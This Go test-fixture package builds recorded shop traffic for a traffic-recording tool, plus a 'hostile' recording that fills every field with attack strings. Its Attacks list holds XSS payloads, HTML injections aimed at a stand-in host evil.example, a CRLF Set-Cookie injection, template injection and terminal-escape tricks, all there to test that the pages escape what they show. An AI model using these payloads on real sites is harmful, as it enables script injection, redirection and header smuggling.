// Package viewtest has recordings for tests of the pages: realistic traffic of a shop, and a
// recording in which every text attacks the page that shows it.
//
// It imports recording and the standard library.
package viewtest

import (
	"bytes"
	"cmp"
	"compress/gzip"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/tapedeck/tapedeck/recording"
)

// Began is when the recordings begin.
var Began = time.Date(2026, 11, 22, 20, 15, 0, 0, time.UTC)

// Lines returns a segment with these exchanges, in the order of their start.
func Lines(exchanges []*recording.Exchange) (segment []byte) {
	exchanges = slices.Clone(exchanges)
	slices.SortStableFunc(exchanges, func(a, b *recording.Exchange) int { return a.TS.Compare(b.TS) })
	for _, e := range exchanges {
		segment = append(e.AppendJSON(segment), '\n')
	}
	return segment
}

// base returns an exchange with the fields that all have.
func base(id int, at time.Duration, direction, workload string, took time.Duration) *recording.Exchange {
	e := &recording.Exchange{MsgType: recording.MsgType, TS: Began.Add(at), Duration: took.Milliseconds(), Direction: direction, L7Protocol: recording.HTTP1,
		Cluster: "prod-1", Namespace: "shop", Service: workload, Resource: workload}
	binary.BigEndian.PutUint64(e.UUID[8:], uint64(id))
	e.UUID[6], e.UUID[0] = 0x40, 0x7a
	e.Tags.Set(recording.TagPodName, workload+"-6d5f7c9b8-x"+strconv.Itoa(id%3))
	e.Tags.Set(recording.TagRequestEnd, "120")
	e.Tags.Set(recording.TagResponseStart, strconv.FormatInt(max(took.Microseconds()-300, 150), 10))
	return e
}

// asked completes an HTTP exchange.
func asked(e *recording.Exchange, method, host, uri string, status int, contentType, body string, headers ...recording.Header) *recording.Exchange {
	path, _, _ := strings.Cut(uri, "?")
	e.Command, e.Location, e.NetworkAddress, e.Status = method, path, host+":80", strconv.Itoa(status)
	e.HTTP = &recording.HTTP{}
	e.HTTP.Req = recording.HTTPRequest{Method: method, URL: path, URI: uri, Host: host, Version: "1.1", Headers: append(recording.Headers{
		{Name: "Accept", Value: "application/json"}, {Name: "User-Agent", Value: "shop/1.4"}}, headers...)}
	e.HTTP.Res = recording.HTTPResponse{StatusCode: status, StatusMessage: fmt.Sprintf("%d %s", status, statusTexts[status]), ContentType: contentType, Body: []byte(body)}
	if contentType != "" {
		e.HTTP.Res.Headers = recording.Headers{{Name: "Content-Type", Value: contentType}, {Name: "Content-Length", Value: strconv.Itoa(len(body))}, {Name: "Date", Value: "Sun, 22 Nov 2026 20:15:00 GMT"}}
	}
	return e
}

var statusTexts = map[int]string{101: "Switching Protocols", 200: "OK", 201: "Created", 204: "No Content", 304: "Not Modified", 404: "Not Found", 409: "Conflict", 503: "Service Unavailable"}

// Shop returns the traffic of a shop: n visits, each with the calls that it causes.
func Shop(n int) (all []*recording.Exchange) {
	id := 0
	next := func(at time.Duration, direction, workload string, took time.Duration) *recording.Exchange {
		id++
		e := base(id, at, direction, workload, took)
		all = append(all, e)
		return e
	}
	for i := range n {
		at := time.Duration(i) * 137 * time.Millisecond
		took := time.Duration(18+(i*7919)%90) * time.Millisecond
		status, cart := 200, strconv.Itoa(100+i%40)
		switch {
		case i%23 == 7:
			status, took = 503, 1203*time.Millisecond
		case i%11 == 3:
			status = 404
		}
		trace := recording.Header{Name: "Traceparent", Value: fmt.Sprintf("00-%032x-%016x-01", 0xabc000+i, i+1)}
		visit := asked(next(at, recording.In, "frontend", took), "GET", "shop.example", "/carts/"+cart+"?currency=EUR", status, "application/json",
			`{"id":`+cart+`,"items":[{"sku":"A-1","count":2,"price":12.50},{"sku":"B-7","count":1,"price":3.99}],"currency":"EUR","total":28.99}`, trace,
			recording.Header{Name: "Cookie", Value: "session=REDACTED"})
		visit.Tags.Set(recording.TagPeer, "spiffe://cluster.local/ns/istio-system/sa/ingress")
		visit.Tags.Set(recording.TagPeerBy, "x-forwarded-client-cert")
		visit.Tags.Set(recording.TagRedacted, "request.header.Cookie")
		call := func(after time.Duration, workload string, took time.Duration) *recording.Exchange {
			e := next(at+after, recording.Out, workload, took)
			e.Tags.Set(recording.TagParent, visit.UUID.String())
			e.Tags.Set(recording.TagParentBy, "traceparent")
			return e
		}
		asked(call(2*time.Millisecond, "frontend", 5*time.Millisecond), "GET", "cart.shop.svc", "/v1/carts/"+cart, 200, "application/json", `{"id":`+cart+`}`, trace)
		inCart := asked(next(at+3*time.Millisecond, recording.In, "cart", 4*time.Millisecond), "GET", "cart.shop.svc", "/v1/carts/"+cart, 200, "application/json", `{"id":`+cart+`}`, trace)
		inCart.Tags.Set(recording.TagPeer, "spiffe://cluster.local/ns/shop/sa/frontend")
		inCart.Tags.Set(recording.TagPeerBy, "x-forwarded-client-cert")
		switch i % 5 {
		case 0:
			e := asked(call(9*time.Millisecond, "frontend", 3*time.Millisecond), "POST", "prices.shop.svc:9090", "/shop.Prices/Quote", 200, "application/grpc", "", trace)
			e.L7Protocol, e.Status, e.HTTP.Req.Version = recording.GRPC, "0", "2.0"
			e.HTTP.Res.Headers = append(e.HTTP.Res.Headers, recording.Header{Name: "Grpc-Status", Value: map[bool]string{true: "14", false: "0"}[i%25 == 5]})
			e.GRPC = &recording.Conversation{Part: 1, Last: true, ClientBytes: 9, ServerBytes: 12, Messages: []recording.Message{
				{From: recording.Client, At: 200, Data: []byte("\x0a\x03A-1\x10\x02")}, {From: recording.Server, At: 2600, Data: []byte("\x0a\x03EUR\x11\x00\x00\x00\x00\x00\x00\x29\x40")}}}
		case 1:
			e := asked(call(8*time.Millisecond, "frontend", 12*time.Millisecond), "POST", "api.stripe.com", "/v1/payment_intents", 201, "application/json", `{"id":"pi_3","status":"succeeded","amount":2899}`, trace,
				recording.Header{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}, recording.Header{Name: "Authorization", Value: "REDACTED"})
			e.L7Protocol, e.IsTLS, e.ALPN, e.HTTP.Req.Body = recording.HTTPS, true, "http/1.1", []byte("amount=2899&currency=eur&description=Order+%2317+%C3%A9")
			e.Tags.Set(recording.TagRedacted, "request.header.Authorization")
		case 2:
			e := asked(call(7*time.Millisecond, "frontend", 40*time.Millisecond), "GET", "images.shop.svc", "/thumbs/a-1.png", 200, "image/png", string(picture), trace)
			e.HTTP.Req.Headers[0].Value = "image/*"
		case 3:
			e := asked(call(6*time.Millisecond, "frontend", 30*time.Millisecond), "GET", "search.shop.svc", "/search?q=tape&page="+strconv.Itoa(i), 200, "application/json", "", trace)
			e.HTTP.Res.Body = zipped(`{"hits":[` + strings.Repeat(`{"sku":"A-1","name":"Cassette, 90 minutes","score":1.25},`, 30) + `{"sku":"Z"}],"took":3}`)
			e.HTTP.Res.Headers = append(e.HTTP.Res.Headers, recording.Header{Name: "Content-Encoding", Value: "gzip"})
		case 4:
			if i%20 == 4 {
				e := asked(call(5*time.Millisecond, "frontend", 5*time.Second), "GET", "stock.shop.svc", "/stock/A-1", 0, "", "", trace)
				e.HTTP.Res, e.Status = recording.HTTPResponse{}, ""
				e.Tags.Set(recording.TagIncomplete, recording.NoAnswer)
			}
		}
	}
	if n > 0 {
		all = append(all, conversations()...)
	}
	return all
}

// conversations returns a WebSocket, a stream of events and a connection of an unknown protocol.
func conversations() []*recording.Exchange {
	chat := asked(base(1_000_000, time.Second, recording.In, "chat", 9*time.Second), "GET", "shop.example", "/chat", 101, "", "")
	chat.L7Protocol = recording.WebSocket
	c := &recording.Conversation{Part: 1, Last: true}
	for i := range 130 {
		m := recording.Message{From: recording.Client, At: int64(i+1) * 70_000, Type: "text", Data: fmt.Appendf(nil, `{"say":"message %d","to":"desk"}`, i)}
		if i%2 == 1 {
			m.From = recording.Server
		}
		if i%17 == 16 {
			m.Type, m.Data = "binary", []byte{0, 1, 2, 0xff, byte(i)}
		}
		c.Messages = append(c.Messages, m)
		c.ClientBytes += int64(len(m.Data))
	}
	chat.WebSocket = c
	events := asked(base(1_000_001, 2*time.Second, recording.Out, "frontend", 4*time.Second), "GET", "events.shop.svc", "/events", 200, "text/event-stream",
		"event: price\ndata: {\"sku\":\"A-1\",\"price\":12.5}\n\n: still here\n\nid: 2\nevent: price\ndata: {\"sku\":\"B-7\",\"price\":3.99}\n\n")
	events.Tags.Set(recording.TagPace, "0:1800,48:1002000")
	db := base(1_000_002, 3*time.Second, recording.Out, "orders", 80*time.Millisecond)
	db.L7Protocol, db.NetworkAddress = recording.TCP, "postgres.shop.svc:5432"
	db.TCP = &recording.Conversation{Part: 1, Last: true, ClientBytes: 8, ServerBytes: 1, Messages: []recording.Message{
		{From: recording.Client, At: 10, Data: []byte{0, 0, 0, 8, 4, 0xd2, 0x16, 0x2f}}, {From: recording.Server, At: 900, Data: []byte("N")}}}
	return []*recording.Exchange{chat, events, db}
}

func zipped(text string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(text)) // writing to a Buffer never fails
	_ = w.Close()
	return b.Bytes()
}

// picture is one pixel.
var picture = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82")

// Attacks returns texts that would have an effect in a page that does not escape them: their
// scripts set window.pwned.
func Attacks() []string {
	return []string{
		`<script>window.pwned=1</script>`,
		`"><img src=/1/x onerror="window.pwned=1">`,
		`' autofocus onfocus='window.pwned=1`,
		`</title></textarea></style></script><script>window.pwned=1</script>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<svg onload=window.pwned=1>`,
		`<base href=//evil.example/><link rel=stylesheet href=//evil.example/x><style>*{display:none}</style>`,
		`<form action=//evil.example/><input name=q autofocus></form>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/">`,
		`javascript:window.pwned=1`,
		`//evil.example/`,
		`{{.Version}}{{template "main"}}${window.pwned=1}`,
		"line\r\nSet-Cookie: a=b\r\n\r\n<script>window.pwned=1</script>",
		"\u202egpj.exe\u2066 \u200b\u0000\u0007\x1b[31m red \x1b]8;;http://evil.example\x07",
		"\xff\xfe<script>window.pwned=1</script>\xed\xa0\x80",
		strings.Repeat("W", 5000),
	}
}

// Hostile returns exchanges in which every text is an attack.
func Hostile() (all []*recording.Exchange) {
	for i, a := range Attacks() {
		e := base(i+1, time.Duration(i)*time.Second, []string{recording.In, recording.Out}[i%2], a, time.Second)
		asked(e, cmp.Or(strings.ToValidUTF8(a, ""), "GET"), a, "/"+a+"?"+a, 200, a, a, recording.Header{Name: a, Value: a}, recording.Header{Name: "Content-Type", Value: []string{"text/html", "application/json", "image/svg+xml", "multipart/form-data; boundary=x"}[i%4]})
		e.Namespace, e.Cluster, e.NetworkAddress, e.ALPN, e.Tech, e.L7Protocol = a, a, a, a, a, []string{recording.HTTP1, recording.WebSocket, a}[i%3]
		e.HTTP.Req.Body, e.HTTP.Res.StatusMessage, e.HTTP.Req.Version = []byte(`{"`+a+`":"`+a+`"}`), "200 "+a, a
		for _, tag := range []string{recording.TagPodName, recording.TagPeer, recording.TagPeerBy, recording.TagIncomplete, recording.TagUndecoded, recording.TagRedacted, recording.TagReset, recording.TagReplay, recording.TagParent, recording.TagParentBy, recording.TagReason, a} {
			e.Tags.Set(tag, a)
		}
		e.NetInfo = &recording.NetInfo{ID: a, Downstream: recording.Endpoint{IPAddress: a, Hostname: a}, Upstream: recording.Endpoint{IPAddress: a, Hostname: a}}
		value, _ := json.Marshal(a) // a string has JSON
		e.Extra = []recording.Member{{Name: a, Value: value}}
		if i%3 == 1 {
			e.WebSocket = &recording.Conversation{Part: 1, Messages: []recording.Message{{From: a, Type: a, Data: []byte(a)}, {From: recording.Server, Type: "text", Data: []byte(`<p onclick="window.pwned=1">`)}}}
		}
		if i%4 == 0 {
			e.Status, e.HTTP.Res.StatusCode = a, 0
		}
		all = append(all, e)
	}
	return all
}
